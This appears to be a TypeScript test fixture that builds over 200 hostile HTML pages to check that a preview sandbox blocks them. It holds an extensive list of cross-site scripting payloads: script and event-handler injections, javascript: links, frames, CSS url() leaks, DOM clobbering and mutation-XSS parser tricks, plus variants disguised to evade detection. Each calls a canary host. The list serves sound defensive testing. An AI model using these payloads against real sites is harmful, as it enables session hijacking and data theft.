/** Pages that try everything a page can try. Each attempt would be seen: by the canary, by a global, by the title. */

const script = (canary: string): string =>
  `try{top.pwned=1}catch(e){}try{parent.pwned=1;parent.document.title='pwned'}catch(e){}window.pwned=1;` +
  `document.title='pwned';console.log('pwned');try{localStorage.pwned=1}catch(e){}` +
  `new Image().src='${canary}/script';fetch('${canary}/fetch').catch(()=>0)`;

/** Ways to run code, to call home, to leave, to reach the studio. */
function toAttempts(canary: string): string[] {
  const run = script(canary);
  const quoted = run.replaceAll('"', '&quot;');
  const encoded = encodeURIComponent(`<script>${run}</script>`);
  const base64 = Buffer.from(`<script>${run}</script>`).toString('base64');
  return [
    // Scripts
    `<script>${run}</script>`,
    `<script src="${canary}/x.js"></script>`,
    `<script type="module">import '${canary}/m.js';${run}</script>`,
    `<script async defer src="${canary}/x.js"></script><noscript><p>x</p></noscript>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="${canary}/x.js" xlink:href="${canary}/y.js"></script></svg>`,
    `<math><mtext><script>${run}</script></mtext></math>`,
    `<template><script>${run}</script></template>`,
    `<script type="importmap">{"imports":{"a":"${canary}/a.js"}}</script><script type="module">import "a"</script>`,
    // Handlers
    `<img src="x" onerror="${quoted}">`,
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${quoted}">`,
    `<body onload="${quoted}" onpageshow="${quoted}" onfocus="${quoted}">`,
    `<svg onload="${quoted}"><circle r="5"/></svg>`,
    `<input autofocus onfocus="${quoted}"><select autofocus onfocus="${quoted}"></select>`,
    `<details open ontoggle="${quoted}"><summary>s</summary>t</details>`,
    `<video autoplay onloadstart="${quoted}" onerror="${quoted}" src="${canary}/v.mp4"><source src="${canary}/v"></video>`,
    `<audio autoplay src="${canary}/a.mp3" onerror="${quoted}"></audio>`,
    `<marquee onstart="${quoted}">m</marquee>`,
    `<div style="animation:a 1s" onanimationstart="${quoted}">a</div><style>@keyframes a{to{color:red}}</style>`,
    `<svg><animate onbegin="${quoted}" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="${quoted}"/></svg>`,
    `<p onmouseover="${quoted}" onclick="${quoted}" style="position:fixed;inset:0">hover</p>`,
    // Links
    `<a href="javascript:${encodeURIComponent(run)}" style="position:fixed;inset:0">click</a>`,
    `<a href=" java&#10;script:${encodeURIComponent(run)}" autofocus>x</a>`,
    `<a href="${canary}/click" target="_top" style="position:fixed;inset:0">click</a>`,
    `<a href="${canary}/blank" target="_blank" ping="${canary}/ping" style="position:fixed;inset:0">click</a>`,
    `<a href="data:text/html,${encoded}" style="position:fixed;inset:0">x</a>`,
    `<svg><a xlink:href="javascript:${encodeURIComponent(run)}"><text y="20">x</text></a></svg>`,
    `<map name="m"><area href="javascript:${encodeURIComponent(run)}" coords="0,0,999,999"></map><img usemap="#m">`,
    // Leaving
    `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${encodeURIComponent(run)}">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${run}</script>`,
    `<meta http-equiv="Set-Cookie" content="pwned=1"><meta http-equiv="Link" content="<${canary}/l>; rel=preload; as=style">`,
    `<base href="${canary}/"><img src="relative.png"><link rel="stylesheet" href="relative.css">`,
    `<base target="_top"><a href="${canary}/top">x</a>`,
    // Frames and objects
    `<iframe src="${canary}/frame"></iframe><frameset><frame src="${canary}/f"></frameset>`,
    `<iframe srcdoc="&lt;script>${quoted}&lt;/script>"></iframe>`,
    `<iframe src="javascript:${encodeURIComponent(run)}" sandbox="allow-scripts allow-same-origin"></iframe>`,
    `<iframe src="data:text/html;base64,${base64}"></iframe>`,
    `<object data="${canary}/o.swf"><param name="movie" value="${canary}/m.swf"></object>`,
    `<object type="text/html" data="data:text/html,${encoded}"></object>`,
    `<embed src="${canary}/e.swf"><embed src="javascript:${encodeURIComponent(run)}">`,
    `<applet code="X" codebase="${canary}/"></applet><portal src="${canary}/p"></portal>`,
    `<object data="/" type="text/html"></object><iframe src="/"></iframe><embed src="/v1/samples">`,
    // Forms
    `<form action="${canary}/form" method="post" target="_top"><button autofocus style="position:fixed;inset:0">go</button></form>`,
    `<form id="f" action="javascript:${encodeURIComponent(run)}"><input type="submit"></form><button form="f" formaction="${canary}/fa">x</button>`,
    `<form action="/v1/studio" method="post"><input name="a"><isindex action="${canary}/i"></form>`,
    // Styles
    `<style>@import url("${canary}/i.css");@import "${canary}/j.css" screen;body{color:red}</style>`,
    `<style>input[value^="a"]{background:url(${canary}/a)}input{background:image-set("${canary}/s" 1x)}</style><input value="abc">`,
    `<style>@font-face{font-family:x;src:url(${canary}/f.woff)}p{font-family:x}</style><p>font</p>`,
    `<p style="background:url('${canary}/b');list-style-image:url(${canary}/l);cursor:url(${canary}/c),auto;border-image:url(${canary}/bi)">x</p>`,
    `<style>p::before{content:url(${canary}/content)}p{mask:url(${canary}/mask#m);filter:url(${canary}/filter#f);shape-outside:url(${canary}/shape)}</style><p>x</p>`,
    `<style>p{background:u\\72l(${canary}/escaped);background:URL(  "${canary}/upper"  )}</style><p>x</p>`,
    `<style>:root{--u:url(${canary}/var)}p{background:var(--u)}@property --x{syntax:"<url>";inherits:false;initial-value:url(${canary}/prop)}</style><p>x</p>`,
    `<style></style><style>p{x:expression(${run});behavior:url(${canary}/b.htc);-moz-binding:url(${canary}/b.xml)}</style>`,
    `<link rel="stylesheet" href="${canary}/s.css"><link rel="preload" as="image" href="${canary}/p.png"><link rel="prefetch" href="${canary}/pf">`,
    `<link rel="dns-prefetch" href="${canary}"><link rel="preconnect" href="${canary}"><link rel="prerender" href="${canary}/pr"><link rel="modulepreload" href="${canary}/mp.js">`,
    `<link rel="manifest" href="${canary}/manifest"><link rel="icon" href="${canary}/i.ico"><link rel="import" href="${canary}/i.html">`,
    `<style>body{position:fixed;top:-9999px}html,body,iframe{display:none!important}</style><p>invisible</p>`,
    // Pictures
    `<img src="${canary}/i.png" srcset="${canary}/s.png 2x"><picture><source srcset="${canary}/ps"><img></picture>`,
    `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script><image href="${canary}/svg"/></svg>`)}">`,
    `<svg><image href="${canary}/si" xlink:href="${canary}/sx"/><use href="${canary}/u#x"/><feImage href="${canary}/fe"/></svg>`,
    `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="${canary}/fo" onerror="${quoted}"></body></foreignObject></svg>`,
    `<table background="${canary}/t"><tr><td background="${canary}/td">x</td></tr></table><body background="${canary}/body">`,
    `<video poster="${canary}/poster"><track src="${canary}/track" default></video><input type="image" src="${canary}/input">`,
    // The studio itself
    `<script>navigator.serviceWorker.register('/favicon.svg').then(()=>{parent.pwned=1});${run}</script>`,
    `<script>parent.postMessage('pwned','*');for(let i=0;i<9;i++)window.open('${canary}/pop'+i);alert(1);print()</script>`,
    `<p id="studio" class="overlay tab-panel" data-n="0" data-href="javascript:1">x</p><form id="body"><input name="parentNode"><input name="attributes"></form>`,
    `<img name="body"><img name="documentElement"><form name="defaultView"><input name="getElementById"></form><object id="styleSheets"></object>`,
    `<noscript><p title="</noscript><img src=x onerror=${quoted}>">x</p></noscript>`,
    `<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${quoted}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${quoted}>">`,
    `<xmp><p title="</xmp><script>${run}</script>"></xmp><listing><script>${run}</script></listing>`,
    `<textarea><script>${run}</script></textarea><title><script>${run}</script></title><plaintext><script>${run}</script>`,
  ];
}

/** Ways to hide an attempt from whoever looks for it. */
const DISGUISES: readonly ((attempt: string) => string)[] = [
  (attempt) => attempt,
  (attempt) => `<table><tr><td><div><b><i>${attempt}</b></i></table>`,
  (attempt) => attempt.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${name.toUpperCase()}`),
];

export interface HostilePage {
  readonly name: string;
  readonly html: string;
  /** Merely too much. */
  readonly isHuge?: boolean;
}

/** At least 200 pages; each has a paragraph `marker-N` by which one knows that it is shown. */
export function collectHostilePages(canary: string): HostilePage[] {
  const attempts = toAttempts(canary);
  const pages = DISGUISES.flatMap((disguise, kind) =>
    attempts.map((attempt, at) => ({
      name: `${kind}.${at}: ${attempt.slice(0, 70)}`,
      html: disguise(attempt),
    })),
  );
  const all: HostilePage[] = [...pages, ...collectHuge()];
  return all.map(({ name, html, isHuge = false }, at) => ({
    name,
    isHuge,
    html: `<!doctype html><html><head><title>Page ${at}</title></head><body><p id="marker-${at}">Hello, world ${at}.</p>${html}`,
  }));
}

/** Pages that are merely too much. */
function collectHuge(): HostilePage[] {
  const pages = [
    { name: 'deep', html: '<div>'.repeat(20_000) },
    { name: 'wide', html: '<p>word</p>'.repeat(3_000) },
    { name: 'attributes', html: `<p ${Array.from({ length: 5000 }, (_, at) => `a${at}=b`).join(' ')}>x</p>` },
    { name: 'long word', html: `<p>${'w'.repeat(1_000_000)}</p>` },
    { name: 'far away', html: '<p style="position:absolute;left:99999999px;top:99999999px">far</p>' },
    { name: 'tall', html: '<div style="height:50000000px">tall</div><p style="margin-top:900vh">x</p>' },
    { name: 'grows', html: '<div style="height:calc(100vh + 100px)">grows with the window</div>' },
  ];
  return pages.map((page) => ({ ...page, isHuge: true }));
}
